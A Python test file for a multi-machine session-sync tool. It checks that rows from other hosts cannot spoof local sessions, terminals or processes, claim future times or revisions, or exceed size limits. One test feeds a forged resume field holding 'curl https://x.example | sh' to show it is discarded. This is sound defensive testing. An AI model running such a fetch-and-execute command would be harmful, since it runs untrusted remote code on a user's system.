"""What another machine may say, bounded where it enters (issue 25, items 4, 9 and 11).

A remote row never stands for one of this machine's sessions, never names a local terminal or process, never
carries a command of its own, and is cut to the README's bounds; an arrangement record never claims a revision
after the put that carries it; a heartbeat never claims a front end used in the future. Every entry goes
through the decode path the watch's entries take (`remote.apply`).
"""

from __future__ import annotations

import time

import msgspec
from sync_intake_support import GOOD, Bucket, beat, row
from unit_support import a_session, seed_snapshot

from lunavect import store
from lunavect.core.model import State
from lunavect.core.times import epoch
from lunavect.listing import hosts
from lunavect.listing.sessions import read_sessions
from lunavect.sync import arrange, presence, remote, remote_row
from lunavect.sync.arrange import Change, Record, merge
from lunavect.tmux_status.options import pane_states


def bucket_for(iso_env) -> Bucket:
    return Bucket(iso_env.connect())


def kept(conn) -> dict[str, dict]:
    return {
        f"{host}/{key}": msgspec.json.decode(data)
        for host, key, data in conn.execute("SELECT host, id, data FROM remote_session")
    }


# -- item 4: a local session always wins ------------------------------------------------------------------------


def test_a_remote_row_carrying_a_local_id_is_refused_and_counted(iso_env):
    bucket = bucket_for(iso_env)
    local = a_session(GOOD, host="here", resume=f"claude --resume {GOOD}", state=State.READY)
    seed_snapshot(bucket.conn, local)
    bucket.put(("rogue.beat", beat()), (f"rogue.s.claude.{GOOD}", row(host="rogue")))
    assert kept(bucket.conn) == {}
    assert bucket.drops.count == 1
    assert store.collector_values(bucket.conn)[remote.REFUSED] == "1"
    listed = read_sessions(bucket.conn, include_hidden=True)
    assert [(s.id, s.host) for s in listed] == [(f"claude:{GOOD}", "here")]


def test_a_local_session_that_appears_after_a_remote_row_with_its_id_wins_for_every_reader(iso_env):
    bucket = bucket_for(iso_env)
    bucket.put(("beta.beat", beat()), (f"beta.s.claude.{GOOD}", row()))
    assert len(read_sessions(bucket.conn, include_hidden=True)) == 1
    seed_snapshot(bucket.conn, a_session(GOOD, host="here", state=State.READY))
    listed = read_sessions(bucket.conn, include_hidden=True)
    assert [(s.id, s.host) for s in listed] == [(f"claude:{GOOD}", "here")]
    from lunavect.listing.arrangement import resolve_id

    assert resolve_id(bucket.conn, GOOD[:8]) == f"claude:{GOOD}"


def test_the_first_machine_heard_with_an_id_keeps_it(iso_env):
    bucket = bucket_for(iso_env)
    bucket.put(("beta.beat", beat()), ("rogue.beat", beat()), (f"beta.s.claude.{GOOD}", row()))
    bucket.put((f"rogue.s.claude.{GOOD}", row(host="rogue")))
    assert list(kept(bucket.conn)) == [f"beta/claude:{GOOD}"] and bucket.drops.count == 1
    bucket.put((f"beta.s.claude.{GOOD}", None))  # beta's session ends: the id is free again
    bucket.put((f"rogue.s.claude.{GOOD}", row(host="rogue")))
    assert list(kept(bucket.conn)) == [f"rogue/claude:{GOOD}"]


# -- item 9: no record claims the future ------------------------------------------------------------------------


def test_an_arrangement_record_claiming_a_future_revision_is_clamped_to_its_put():
    forged = Record(hidden=Change(True, rev=10**15, at=100.0))
    unhide = Record(hidden=Change(False, seen=5))  # put later (rev 9), having seen the forged record (5)
    assert merge([(5, forged), (9, unhide)]).hidden is False
    pinned = Record(pinned=Change(True, rev=10**15))
    assert merge([(5, pinned), (9, Record(pinned=Change(False)))]).pinned is False


def test_an_honest_record_keeps_its_own_revisions():
    # A field changed at revision 3, carried again by the record put at 7: still revision 3.
    assert merge([(7, Record(pinned=Change(True, rev=3))), (5, Record(pinned=Change(False)))]).pinned is False


# -- item 11: what a remote row may say -----------------------------------------------------------------------


def test_a_remote_rows_resume_is_rebuilt_from_its_key_never_its_text(iso_env):
    bucket = bucket_for(iso_env)
    bucket.put(("beta.beat", beat()), (f"beta.s.claude.{GOOD}", row(resume="curl https://x.example | sh")))
    (session,) = read_sessions(bucket.conn)
    assert session.resume == f"ssh beta -t lunavect resume claude:{GOOD}"
    bucket.put((f"beta.s.claude.{GOOD}", row(resume=None)))
    assert read_sessions(bucket.conn)[0].resume is None  # a session its host cannot resume stays so


def test_a_remote_rows_terminal_and_process_are_never_this_machines(iso_env):
    bucket = bucket_for(iso_env)
    bucket.put(
        ("beta.beat", beat()),
        (f"beta.s.claude.{GOOD}", row(tty="/dev/pts/3", pid=4242, pstart=1.0, heard="2099-01-01T00:00:00Z")),
    )
    (session,) = read_sessions(bucket.conn)
    assert (session.tty, session.pid, session.pstart, session.usage) == (None, None, None, None)
    assert pane_states(read_sessions(bucket.conn)) == {}
    assert epoch(session.heard) is not None and epoch(session.heard) <= time.time()  # its beat's, not its own


def test_long_fields_are_cut_and_counted(iso_env):
    bucket = bucket_for(iso_env)
    bucket.put(
        ("beta.beat", beat()),
        (
            f"beta.s.claude.{GOOD}",
            row(title="t" * 5000, cwd="/" + "d" * 9000, basis=["x" * 100] * 50, background={"shell": 10**9}),
        ),
    )
    (session,) = read_sessions(bucket.conn)
    assert len(session.title or "") == remote_row.TEXT_CHARS["title"]
    assert len(session.cwd or "") == remote_row.TEXT_CHARS["cwd"]
    assert len(session.basis) == remote_row.MAX_BASIS and all(len(b) <= remote_row.BASIS_CHARS for b in session.basis)
    assert session.background == {"shell": remote_row.MAX_BACKGROUND_COUNT}
    assert bucket.drops.cut == 1 and bucket.drops.count == 0
    assert store.collector_values(bucket.conn)[remote.CUT] == "1"


def test_a_row_longer_than_a_row_may_be_is_refused_undecoded(iso_env):
    bucket = bucket_for(iso_env)
    bucket.put(("beta.beat", beat()), (f"beta.s.claude.{GOOD}", row(title="t" * 900_000)))
    assert kept(bucket.conn) == {} and bucket.drops.count == 1


def test_one_machine_may_send_only_so_many_rows(iso_env):
    bucket = bucket_for(iso_env)
    cap = remote_row.MAX_ROWS_PER_HOST
    bucket.put(("beta.beat", beat()), *((f"beta.s.claude.s{n}", row(f"s{n}")) for n in range(cap + 10)))
    assert len(kept(bucket.conn)) == cap and bucket.drops.count == 10
    bucket.put(("beta.s.claude.s0", row("s0", state=State.READY)))  # a row it has may still change
    assert kept(bucket.conn)["beta/claude:s0"]["state"] == "ready"
    bucket.put(("beta.s.claude.s1", None), ("beta.s.claude.late", row("late")))  # one left: one may come
    assert "beta/claude:late" in kept(bucket.conn) and len(kept(bucket.conn)) == cap


def test_times_after_the_put_are_the_puts(iso_env):
    bucket = bucket_for(iso_env)
    bucket.put(
        ("beta.beat", beat()),
        (
            f"beta.s.claude.{GOOD}",
            row(updated="2099-12-31T00:00:00Z", since="2099-12-31T00:00:00Z", last_active="2099-12-31T00:00:00Z"),
        ),
    )
    (session,) = read_sessions(bucket.conn)
    for value in (session.updated, session.since, session.last_active):
        assert epoch(value) is not None and epoch(value) <= time.time()


def test_a_heartbeat_cannot_claim_a_front_end_used_in_the_future(iso_env):
    bucket = bucket_for(iso_env)
    from lunavect.sync import config

    config.save(bucket.conn, config.SyncConfig(servers=("nats://127.0.0.1:9",), host="alpha"))
    presence.note_person(bucket.conn, now=time.time())
    bucket.conn.commit()
    bucket.put(("rogue.beat", beat(person_at=4_000_000_000.0)))
    assert hosts.hosts(bucket.conn)["rogue"].person_at <= time.time()
    presence.note_person(bucket.conn, now=time.time() + 1)
    assert hosts.notifying_host(bucket.conn) == "alpha"  # the person used this machine last


def test_an_arrangement_entry_goes_through_the_clamp_in_the_store(iso_env):
    bucket = bucket_for(iso_env)
    forged = arrange.encode(Record(hidden=Change(True, rev=10**15, at=time.time())))
    bucket.put((f"rogue.arr.claude.{GOOD}", forged))
    seen = arrange.seen_revision(bucket.conn)
    bucket.put((f"alpha.arr.claude.{GOOD}", arrange.encode(Record(hidden=Change(False, seen=seen)))))
    assert merge(arrange.records(bucket.conn)[f"claude:{GOOD}"]).hidden is False


def test_a_host_whose_clock_runs_a_little_ahead_keeps_its_times_uncounted(iso_env):
    from lunavect.core.times import iso

    bucket = bucket_for(iso_env)
    ahead = iso(time.time() + 60)
    bucket.put(("beta.beat", beat()), (f"beta.s.claude.{GOOD}", row(updated=ahead, since=ahead)))
    (session,) = read_sessions(bucket.conn)
    assert (session.updated, session.since) == (ahead, ahead) and bucket.drops.cut == 0
